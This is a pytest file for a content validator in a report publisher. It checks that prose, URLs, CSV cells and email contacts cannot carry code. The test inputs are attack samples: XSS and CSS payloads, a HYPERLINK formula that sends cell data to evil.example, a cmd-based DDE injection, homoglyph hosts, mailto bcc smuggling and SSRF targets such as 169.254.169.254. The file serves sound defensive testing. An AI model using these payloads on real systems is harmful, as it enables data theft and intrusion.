"""Values that pass `check` are safe and valid where they are published: prose, URLs, names, CSV cells."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.conftest import make_project, run_cli

SAMPLE = "facilities/sample.yaml"
TIMELINE_TEXT = "    text: Inspectors found that medical requests went unanswered.\n"


def _check(root: Path) -> list[str]:
    """Return `check`'s error lines, without the summary."""
    _, out, _ = run_cli("--root", str(root), "check")
    return [line for line in out.splitlines() if ": error: " in line]


def _with_timeline_text(tmp_path: Path, text: str) -> Path:
    root = make_project(tmp_path)
    path = root / SAMPLE
    source = path.read_text(encoding="utf-8")
    assert TIMELINE_TEXT in source
    path.write_text(source.replace(TIMELINE_TEXT, f"    text: {text}\n"), encoding="utf-8")
    return root


@pytest.mark.parametrize(
    "prose",
    [
        "'The campaign page (its URL (since removed) was archived) named the groups.'",
        "'Detained people spoke of their freedom of expression (and its limits) to the press.'",
    ],
)
def test_english_with_parentheses_is_not_code(tmp_path: Path, prose: str) -> None:
    assert _check(_with_timeline_text(tmp_path, prose)) == []


@pytest.mark.parametrize(
    ("prose", "code", "column"),
    [
        ("'Inspectors wrote background: url(https://tracker.example/p.png) there.'", "url(", 41),
        ("'Inspectors wrote width: EXPRESSION(alert(1)) there.'", "EXPRESSION(", 36),
        ("'Inspectors wrote <script>alert(1)</script> there.'", "<script", 29),
    ],
)
def test_css_and_html_in_prose_are_code(tmp_path: Path, prose: str, code: str, column: int) -> None:
    assert _check(_with_timeline_text(tmp_path, prose)) == [
        f"{SAMPLE}:33:{column}: error: text contains code ('{code}'); write plain text:"
        " HTML, CSS and scripts are printed as they are, never run [text.markup]"
    ]


# -- 1. the open data's CSV cells are never formulas -----------------------------------------------

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Click for details")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"


def _formula_project(tmp_path: Path) -> Path:
    root = make_project(tmp_path)
    path = root / SAMPLE
    source = path.read_text(encoding="utf-8")
    source = source.replace(
        "      name: Sample Coalition\n",
        '      name: \'=HYPERLINK("https://evil.example/?"&A1,"Click for details")\'\n',
    )
    source = source.replace(
        "name: Sample Detention Center\n",
        "name: Sample Detention Center\nother_names: ['@SUM(1+1)*cmd|'' /C calc''!A0', '-minus', '+plus', 'Plain']\n",
    )
    source = source.replace("  state: CA\n", "  state: CA\n  coordinates: {lat: 35.37, lon: -119.02}\n")
    path.write_text(source, encoding="utf-8")
    return root


def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(tmp_path: Path) -> None:
    import csv
    import io
    import json

    from report.content.load import load_edition
    from report.render.data import data_outputs

    root = _formula_project(tmp_path)
    assert _check(root) == []  # the values are text as good as any: only the CSV must not run them
    edition, findings = load_edition(root)
    assert edition is not None, findings
    files = {o.path: o.data for o in data_outputs(edition)}

    def rows(name: str) -> list[dict[str, str]]:
        return list(csv.DictReader(io.StringIO(files[f"data/{name}.csv"].decode("utf-8"), newline="")))

    assert [row["name"] for row in rows("campaign_organizations")] == ["'" + HYPERLINK]
    (facility,) = rows("facilities")
    assert facility["other_names"] == "'" + SUM + " | -minus | +plus | Plain"
    assert (facility["name"], facility["longitude"]) == ("Sample Detention Center", "-119.02")  # a number stays one
    assert [row["name"] for row in json.loads(files["data/campaign_organizations.json"])] == [HYPERLINK]
    assert json.loads(files["data/facilities.json"])[0]["other_names"] == SUM + " | -minus | +plus | Plain"
    package = json.loads(files["data/datapackage.json"])
    assert (
        "a text value that starts with =, +, -, @, a tab or a carriage return is written with a ' before it"
        in (package["description"])
    )


# -- 2. a URL that passes goes somewhere -----------------------------------------------------------

BAD_URLS = [
    ("https://", "it names no host; write the full address, like https://example.org/page"),
    ("https://a b", "it contains white space; delete it, or write %20 where the page's address has one"),
    ("https://evil.example/%0a%0djavascript:alert(1)", "it contains %0a, an encoded line feed; delete it"),
    (
        'https://evil.example/" onmouseover="alert(1)',
        "it contains the character \"; delete it, or write %22 where the page's address has one",
    ),
    (
        "https://evil.example/a>b",
        "it contains the character >; delete it, or write %3E where the page's address has one",
    ),
    (
        "https://evil.example:99999/",
        "the standard library cannot read it (Port out of range 0-65535); write the address as the browser shows it",
    ),
    (  # would end the BibTeX field `url = {…}` and add one of its own
        "https://evil.example/x},note={RETRACTED},x={/",
        "it contains the character }; delete it, or write %7D where the page's address has one",
    ),
    (
        "https://evil.example/{x",
        "it contains the character {; delete it, or write %7B where the page's address has one",
    ),
    (
        "https://evil.example/a|b",
        "it contains the character |; delete it, or write %7C where the page's address has one",
    ),
    (
        "https://evil.example/a\\b",
        "it contains the character \\, which a browser reads as /; write / instead",
    ),
    (
        "https://evil.example/a^b",
        "it contains the character ^; delete it, or write %5E where the page's address has one",
    ),
    (
        "https://evil.example/a`b",
        "it contains the character `; delete it, or write %60 where the page's address has one",
    ),
    (  # a Cyrillic а: the same on the page, another site for every click
        "https://ex\u0430mple.org/report",
        "its host name has U+0430 CYRILLIC SMALL LETTER A, a letter of another alphabet that can look like a"
        " Latin one and lead a reader to another site; type the host in Latin letters, or a name in another"
        " alphabet in its xn-- form",
    ),
    (  # Latin look-alikes, each another site for every click: IPA's script g
        "https://\u0261ithub.com/",
        "its host name has U+0261 LATIN SMALL LETTER SCRIPT G, which can look like a plain Latin letter and lead a reader to another"
        " site; type the host in a-z, digits and the letters of U+00C0–U+017F (é, ü, ł) except ı, ĸ and ſ,"
        " or a name with other letters in its xn-- form",
    ),
    (  # a small capital
        "https://\u1d07xample.org/",
        "its host name has U+1D07 LATIN LETTER SMALL CAPITAL E, which can look like a plain Latin letter and lead a reader to another"
        " site; type the host in a-z, digits and the letters of U+00C0–U+017F (é, ü, ł) except ı, ĸ and ſ,"
        " or a name with other letters in its xn-- form",
    ),
    (  # a dotless i
        "https://l\u0131nkedin.com/",
        "its host name has U+0131 LATIN SMALL LETTER DOTLESS I, which can look like a plain Latin letter and lead a reader to another"
        " site; type the host in a-z, digits and the letters of U+00C0–U+017F (é, ü, ł) except ı, ĸ and ſ,"
        " or a name with other letters in its xn-- form",
    ),
    (  # a long s
        "https://\u017fecure.example/",
        "its host name has U+017F LATIN SMALL LETTER LONG S, which can look like a plain Latin letter and lead a reader to another"
        " site; type the host in a-z, digits and the letters of U+00C0–U+017F (é, ü, ł) except ı, ĸ and ſ,"
        " or a name with other letters in its xn-- form",
    ),
    (  # a kra
        "https://\u0138it.example/",
        "its host name has U+0138 LATIN SMALL LETTER KRA, which can look like a plain Latin letter and lead a reader to another"
        " site; type the host in a-z, digits and the letters of U+00C0–U+017F (é, ü, ł) except ı, ĸ and ſ,"
        " or a name with other letters in its xn-- form",
    ),
    (  # a capital dotted I, which the host's lower case makes i and a combining dot
        "https://\u0130nstagram.example/",
        "its host name has U+0307 COMBINING DOT ABOVE, which can look like a plain Latin letter and lead a reader to another"
        " site; type the host in a-z, digits and the letters of U+00C0–U+017F (é, ü, ł) except ı, ĸ and ſ,"
        " or a name with other letters in its xn-- form",
    ),
    (  # pasted from a host's control panel: printed on every page and in every citation
        "https://editor:s3cret@evil.example/",
        "it holds a user name or password (before @), which every reader would see; delete it and the @",
    ),
]


def _yaml(url: str) -> str:
    return "'" + url.replace("'", "''") + "'"


@pytest.mark.parametrize(("url", "why"), BAD_URLS)
def test_a_url_that_goes_nowhere_is_refused_at_its_value(tmp_path: Path, url: str, why: str) -> None:
    root = make_project(tmp_path)
    dossier = root / SAMPLE
    text = dossier.read_text(encoding="utf-8")
    text = text.replace("      name: Sample Coalition\n", f"      name: Sample Coalition\n      url: {_yaml(url)}\n")
    text = text.replace("review:\n", f"  contact:\n    url: {_yaml(url)}\nreview:\n")
    dossier.write_text(f"{text}website: {_yaml(url)}\n", encoding="utf-8")
    website = len(text.splitlines()) + 1
    sources = root / "facilities" / "sources.yaml"
    lines = sources.read_text(encoding="utf-8").splitlines(keepends=True)
    (at,) = [i for i, line in enumerate(lines) if line.startswith("    url: ")][:1]
    lines[at] = f"    url: {_yaml(url)}\n    archive_url: {_yaml(url)}\n"
    sources.write_text("".join(lines), encoding="utf-8")
    assert _check(root) == [
        f"{SAMPLE}:45:12: error: campaign.organizations[1].url: '{url}' is not a valid web address: {why} [schema.pattern]",
        f"{SAMPLE}:58:10: error: campaign.contact.url: '{url}' is not a valid web address: {why} [schema.pattern]",
        f"{SAMPLE}:{website}:10: error: website: '{url}' is not a valid web address: {why} [schema.pattern]",
        f"facilities/sources.yaml:{at + 1}:10: error: sources[1].url: '{url}' is not a valid web address: {why} [schema.pattern]",
        f"facilities/sources.yaml:{at + 2}:18: error: sources[1].archive_url: '{url}' is not a valid web address: {why} [schema.pattern]",
    ]


@pytest.mark.parametrize(
    "url", ["https://bücher.example/", "https://łódź.example/", "https://straße.example/", "https://ÉCOLE.example/"]
)
def test_a_host_with_the_accented_letters_of_european_languages_passes(url: str) -> None:
    """The look-alike rule keeps the letters of Latin-1 Supplement and Latin Extended-A, which
    Western and Central European names are written in (a capital is read in lower case)."""
    from report.content.schema import url_problem

    assert url_problem(url) is None


LICENSE_PATH = 'path: "https://creativecommons.org/licenses/by/4.0/"}'


@pytest.mark.parametrize(("url", "why"), BAD_URLS)
def test_the_license_path_is_refused_by_the_same_url_rule(tmp_path: Path, url: str, why: str) -> None:
    root = make_project(tmp_path)
    report = root / "report.yaml"
    text = report.read_text(encoding="utf-8")
    assert text.splitlines()[21].index(LICENSE_PATH) == 82  # line 22, the value at column 89
    report.write_text(text.replace(LICENSE_PATH, f"path: {_yaml(url)}}}"), encoding="utf-8")
    assert _check(root) == [
        f"report.yaml:22:89: error: license.path: '{url}' is not a valid web address: {why} [schema.pattern]"
    ]


BASE_URLS = [
    (url.rstrip("/") + "/", why) for url, why in BAD_URLS if url.startswith("https://evil.example") and " " not in url
] + [('https://evil.example/"onmouseover="alert(1)/', BAD_URLS[3][1])]
"""The bad URLs in base_url's own form (a host, a path ending in '/'): the URL rule alone refuses them."""


@pytest.mark.parametrize(("url", "why"), BASE_URLS)
def test_the_base_url_is_refused_by_the_same_url_rule_with_its_code(tmp_path: Path, url: str, why: str) -> None:
    root = make_project(tmp_path)
    report = root / "report.yaml"
    with report.open("a", encoding="utf-8") as f:
        f.write(f"base_url: {_yaml(url)}\n")
    assert _check(root) == [
        f"report.yaml:23:11: error: base_url: '{url}' is not a valid web address: {why} [report.base-url]"
    ]


def test_a_base_url_of_another_form_is_one_error_with_its_hint(tmp_path: Path) -> None:
    """Not its form's error and the URL rule's too: the form's hint says what to write."""
    root = make_project(tmp_path)
    with (root / "report.yaml").open("a", encoding="utf-8") as f:
        f.write("base_url: 'ftp://example.org/a b'\n")
    assert _check(root) == [
        "report.yaml:23:11: error: base_url: 'ftp://example.org/a b' is not valid; write the absolute address the"
        " site is published at, ending in '/', like https://example.org/first-ten/ [report.base-url]"
    ]


def test_a_url_written_as_the_advice_says_passes(tmp_path: Path) -> None:
    root = make_project(tmp_path)
    dossier = root / SAMPLE
    text = dossier.read_text(encoding="utf-8")
    url = "https://evil.example/a%20b/%22quoted%22?q=%3Cb%3E#part"
    text = text.replace("      name: Sample Coalition\n", f"      name: Sample Coalition\n      url: '{url}'\n")
    dossier.write_text(text, encoding="utf-8")
    assert _check(root) == []


CONTACT_HINT = (
    "write a plain address like name@example.org: before the @ only ASCII letters, digits and . _ + -, after it"
    " a domain of ASCII letters, digits, hyphens and dots ending in a dot and two or more letters. A ?, & or %"
    " would add hidden headers to the mailto: link (a ?bcc= copies every message to another address), and a"
    " look-alike letter from another alphabet leads to another domain"
)


@pytest.mark.parametrize(
    ("contact", "refused"),
    [
        ("Campaign@DetentionWatchNetwork.ORG", False),
        ("CAMPAIGN@EXAMPLE.Org", False),
        ("campaign@EXАMPLE.ORG", True),  # a Cyrillic А
        ("campaign@example", True),
        ("campaign@example.o1g", True),
        ("campaign at example.org", True),
        ("first.last+ten_2@mail-1.example.org", False),
        ("a?bcc=x%40evil.example@example.org", True),  # a header hidden before the @
        ("a%3Fbcc=x@example.org", True),
        ("a&b@example.org", True),
        ("campaign@example.org?bcc=x@evil.example", True),
    ],
)
def test_the_contact_address_takes_a_domain_in_capitals(tmp_path: Path, contact: str, refused: bool) -> None:
    """`Campaign@DetentionWatchNetwork.ORG` was refused, and blamed on "a look-alike letter": only a
    top-level domain in small letters passed, though domains are case-insensitive. The message says
    the form the address takes, which is what it refuses."""
    root = make_project(tmp_path)
    report = root / "report.yaml"
    text = report.read_text(encoding="utf-8")
    assert "\ncontact: campaign@example.org\n" in text
    report.write_text(text.replace("contact: campaign@example.org", f"contact: {contact}", 1), encoding="utf-8")
    expected = f"report.yaml:9:10: error: contact: '{contact}' is not valid; {CONTACT_HINT} [schema.pattern]"
    assert _check(root) == ([expected] if refused else [])


@pytest.mark.parametrize(
    ("url", "host"),
    [
        (
            "http://169.254.169.254/latest/meta-data/",
            "169.254.169.254, a link-local address (where a cloud server's metadata service answers)",
        ),
        ("http://10.0.0.5/", "10.0.0.5, an address of a private network"),
        ("http://localhost/", "localhost, this machine"),
        ("http://localhost./", "localhost., this machine"),
        ("http://ci.localhost/", "ci.localhost, this machine"),
        ("http://[::1]:8080/", "::1, this machine's own address"),
        ("http://127.1/", "127.1 (127.0.0.1), this machine's own address"),
        ("http://2130706433/", "2130706433 (127.0.0.1), this machine's own address"),
        ("http://[::ffff:10.0.0.5]/", "::ffff:10.0.0.5 (::ffff:a00:5), an address of a private network"),
        ("http://100.64.0.1/", "100.64.0.1, an address reserved for other uses than the internet's sites"),
        ("http://8.8.8.8/dns", None),
        ("https://localhost.example.org/", None),
    ],
)
def test_a_url_on_this_machine_or_a_private_network_is_refused(url: str, host: str | None) -> None:
    """`check --online` would ask it: a pull request could make CI scan its own network."""
    from report.content.schema import url_problem

    expected = f"its host is {host}, which no reader can open and `check --online` must not ask; write the page's public address"
    assert url_problem(url) == (expected if host else None)
